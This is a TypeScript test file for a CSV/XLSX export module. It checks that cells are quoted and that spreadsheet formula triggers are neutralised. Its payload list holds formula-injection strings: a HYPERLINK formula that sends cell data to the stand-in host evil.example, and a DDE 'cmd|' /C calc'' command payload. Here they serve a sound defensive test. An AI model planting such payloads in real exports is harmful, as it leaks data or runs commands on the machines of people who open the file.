import * as XLSX from 'xlsx';
import { describe, expect, it } from 'vitest';
import { neutralize, toCsv, toXlsx, type Column } from './table-export';

/**
 * Issue [N] item 3: exported cells are quoted when they hold the separator, a quote or a line break (quotes
 * doubled), and cells a spreadsheet would run as formulas — full-width ＝＋－＠ and a leading tab or CR included —
 * are neutralised. The CSV is read back with an RFC 4180 reader and with SheetJS, which marks formulas.
 */

/** RFC 4180 with `;`: quoted cells may hold `;`, `"` (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === '"')
      throw new Error(
        `a bare quote inside an unquoted cell at ${i}: ${JSON.stringify(text.slice(i - 10, i + 10))}`,
      );
    else if (c === ';') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else if (c === '\n' || c === '\r') throw new Error(`a bare line break inside an unquoted cell at ${i}`);
    else cell += c;
  }
  if (quoted) throw new Error('unterminated quote');
  if (cell !== '' || row.length) rows.push([...row, cell]);
  return rows;
}

interface Row {
  text: string;
  cents: number;
  n: number | string;
  due: string;
  at: string;
}
const columns: Column<Row>[] = [
  { header: 'Pagador', kind: 'text', value: (r) => r.text },
  { header: 'Valor', kind: 'money', value: (r) => r.cents },
  { header: 'Qtde', kind: 'int', value: (r) => r.n },
  { header: 'Vencimento', kind: 'date', value: (r) => r.due },
  { header: 'Quando', kind: 'datetime', value: (r) => r.at },
];

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '﹢', '﹣', '﹦', '﹫', '−'];
const PAYLOADS = [
  ...TRIGGERS.map((t) => `${t}HYPERLINK("http://evil.example/?"&A1;"clique")`),
  ...TRIGGERS.map((t) => `${t}cmd|' /C calc'!A0`),
  ' =1+1',
  '\u00A0=1+1',
  '\u3000＝1+1',
  '=1;2',
  'a;b',
  'diz "oi"',
  '"',
  '""',
  'linha 1\nlinha 2',
  'linha 1\r\nlinha 2',
  'linha 1\rlinha 2',
  'fim\n',
  '\u2028sep',
  'Maria José',
  '',
];

const row = (text: string): Row => ({
  text,
  cents: 1234,
  n: 1,
  due: '2026-11-05',
  at: '2026-11-05T12:00:00Z',
});

describe('CSV export against injection (issue [N] item 3)', () => {
  it('neutralises every formula trigger, full-width ones and those behind spaces included', () => {
    for (const t of TRIGGERS) expect(neutralize(`${t}1+1`), JSON.stringify(t)).toBe(`'${t}1+1`);
    for (const s of [' =1', '\u00A0=1', '\u3000＝1', '  @x']) expect(neutralize(s), s).toBe(`'${s}`);
    for (const s of ['Maria', '1+1', 'a=b', "'=já neutro", '']) expect(neutralize(s)).toBe(s);
  });

  it('quotes separators, quotes and line breaks, and every cell reads back as the text written', () => {
    const csv = toCsv(columns, PAYLOADS.map(row)).toString('utf8');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(csv.slice(1));
    expect(rows).toHaveLength(PAYLOADS.length + 1);
    PAYLOADS.forEach((p, i) => {
      const cell = rows[i + 1]![0]!;
      expect(cell, JSON.stringify(p)).toBe(neutralize(p));
      expect(rows[i + 1]!.slice(1), JSON.stringify(p)).toEqual([
        '12,34',
        '1',
        '05/11/2026',
        '05/11/2026 09:00:00',
      ]);
    });
    expect(csv).toContain('"diz ""oi""";');
    expect(csv).toContain('"a;b";');
    expect(csv).toContain('"linha 1\nlinha 2";');
  });

  it('a spreadsheet reading the file finds no formula anywhere', () => {
    const csv = toCsv(columns, PAYLOADS.map(row), { footer: ['=SUM(1)', '＠x', 'Total: 3'] }).toString(
      'utf8',
    );
    const sheet = XLSX.read(csv, { type: 'string', FS: ';', raw: false }).Sheets.Sheet1!;
    const formulas = Object.entries(sheet)
      .filter(([k, c]) => !k.startsWith('!') && (c as XLSX.CellObject).f !== undefined)
      .map(([k]) => k);
    expect(formulas).toEqual([]);
    // Every payload cell that starts with a trigger reaches the spreadsheet as text behind an apostrophe.
    for (let r = 1; r <= PAYLOADS.length; r++) {
      const cell = sheet[XLSX.utils.encode_cell({ r, c: 0 })] as XLSX.CellObject | undefined;
      const p = PAYLOADS[r - 1]!;
      if (neutralize(p) !== p) expect(String(cell?.v), JSON.stringify(p)).toMatch(/^'/);
    }
  });

  it('number and date columns holding text are neutralised too; real numbers and dates stay as they are', () => {
    const rows: Row[] = [
      { text: 'x', cents: -1234, n: '=1+1', due: '=cmd|x', at: '＝HYPERLINK("x")' },
      { text: 'y', cents: 99, n: -3, due: '2026-01-31', at: 'not a date' },
    ];
    const parsed = parseCsv(toCsv(columns, rows).toString('utf8').slice(1));
    expect(parsed[1]).toEqual(['x', '-12,34', "'=1+1", "'=cmd|x", '\'＝HYPERLINK("x")']);
    expect(parsed[2]).toEqual(['y', '0,99', '-3', '31/01/2026', 'not a date']);
  });

  it('headers and footers are neutralised and quoted like any cell', () => {
    const cols: Column<Row>[] = [{ header: '=Nome;"x"', kind: 'text', value: (r) => r.text }];
    const parsed = parseCsv(
      toCsv(cols, [row('a')], { footer: ['=1;2', '－3'] })
        .toString('utf8')
        .slice(1),
    );
    expect(parsed).toEqual([['\'=Nome;"x"'], ['a'], [''], ["'=1;2"], ["'－3"]]);
  });

  it('XLSX: text cells are strings, never formulas, neutralised like the CSV', () => {
    const cols: Column<Row>[] = [
      { header: '＝Nome', kind: 'text', value: (r) => r.text },
      ...columns.slice(1),
    ];
    const book = XLSX.read(toXlsx(cols, PAYLOADS.map(row), 'Teste', { footer: ['@x'] }), { type: 'buffer' });
    const sheet = book.Sheets.Teste!;
    for (const [k, c] of Object.entries(sheet)) {
      if (k.startsWith('!')) continue;
      expect((c as XLSX.CellObject).f, k).toBeUndefined();
    }
    expect((sheet.A1 as XLSX.CellObject).v).toBe("'＝Nome");
    PAYLOADS.forEach((p, i) => {
      const cell = sheet[XLSX.utils.encode_cell({ r: i + 1, c: 0 })] as XLSX.CellObject | undefined;
      // XML keeps line breaks as LF: a CR comes back as one.
      const lf = (x: string) => x.replace(/\r\n?/g, '\n');
      expect(lf(String(cell?.v ?? '')), JSON.stringify(p)).toBe(lf(neutralize(p)));
    });
  });
});
